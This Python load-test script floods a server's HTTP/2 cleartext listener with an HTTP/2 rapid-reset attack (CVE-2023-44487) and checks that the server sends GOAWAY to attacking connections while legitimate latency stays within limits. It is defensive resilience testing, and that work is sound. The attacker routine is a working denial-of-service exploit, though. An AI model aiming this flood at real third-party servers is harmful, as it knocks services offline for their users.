#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against cartlink's h2c (prior knowledge) listener.

ATTACKERS connections each open streams (HEADERS) and cancel them at once (RST_STREAM CANCEL)
as fast as they can for DURATION s, while LEGIT keep-alive HTTP/1.1 connections measure
normal latency at RATE req/s; a clean phase first gives the baseline.

Verdict: PASS when every attacker connection got GOAWAY (or was closed) by the server,
legit p99 under attack <= 1.2 x clean p99 (+0.5 ms client jitter allowance), and no legit
request failed. Needs `pip install h2`.

    python3 loadtest/h2_reset/h2_reset.py --addr 127.0.0.1:8080 --path /kit.SIG
"""
import argparse
import asyncio
import os
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.errors

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "slowloris"))
from slowloris import legit, pct  # noqa: E402


async def attacker(host, port, path, duration, out):
    r, w = await asyncio.open_connection(host, port)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    w.write(conn.data_to_send())
    sent, goaway, end = 0, None, time.monotonic() + duration
    headers = [(":method", "GET"), (":path", path), (":scheme", "http"), (":authority", "x")]

    async def reader():
        nonlocal goaway
        while True:
            data = await r.read(65536)
            if not data:
                goaway = goaway or "closed"
                return
            try:
                events = conn.receive_data(data)
            except Exception:
                goaway = goaway or "protocol error"
                return
            for e in events:
                if isinstance(e, h2.events.ConnectionTerminated):
                    goaway = f"GOAWAY {h2.errors.ErrorCodes(e.error_code).name}"
            if goaway:
                return

    rt = asyncio.create_task(reader())
    try:
        while time.monotonic() < end and not goaway:
            for _ in range(50):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers, end_stream=True)
                conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
                sent += 1
            w.write(conn.data_to_send())
            await w.drain()
            await asyncio.sleep(0)
    except Exception:
        pass
    await asyncio.wait([rt], timeout=5)
    out.append((sent, goaway))
    w.close()


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--addr", default="127.0.0.1:8080")
    ap.add_argument("--path", required=True)
    ap.add_argument("--attackers", type=int, default=10)
    ap.add_argument("--duration", type=float, default=15)
    ap.add_argument("--rate", type=int, default=500)
    ap.add_argument("--legit", type=int, default=8)
    a = ap.parse_args()
    host, port = a.addr.rsplit(":", 1)
    port = int(port)
    clean, clean_err = await legit(host, port, a.path, a.rate, a.duration, a.legit)
    out = []

    async def attack_loop():
        end = time.monotonic() + a.duration
        # Reconnect after each GOAWAY for the whole phase, as a real attacker would.
        while time.monotonic() < end:
            batch = []
            await asyncio.gather(*(attacker(host, port, a.path, end - time.monotonic(), batch) for _ in range(a.attackers)))
            out.extend(batch)

    at = asyncio.create_task(attack_loop())
    await asyncio.sleep(0.5)
    attack, attack_err = await legit(host, port, a.path, a.rate, a.duration, a.legit)
    await at
    c99, x99 = pct(clean, 0.99), pct(attack, 0.99)
    conns = len(out)
    stopped = [g for _, g in out if g]
    kinds = {}
    for g in stopped:
        kinds[g] = kinds.get(g, 0) + 1
    resets = sum(s for s, _ in out)
    print(f"clean : n={len(clean)} errors={clean_err} p99={c99*1e3:.2f}ms")
    print(f"attack: n={len(attack)} errors={attack_err} p99={x99*1e3:.2f}ms")
    print(f"attacker connections: {conns}, stopped by the server: {len(stopped)} {kinds}, "
          f"streams opened+reset: {resets} ({resets / max(conns, 1):.0f} per connection)")
    ok = conns > 0 and len(stopped) == conns and attack_err == 0 and clean_err == 0 and x99 <= 1.2 * c99 + 0.0005
    print("VERDICT:", "PASS" if ok else "FAIL", f"(p99 ratio {x99 / c99:.2f})")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
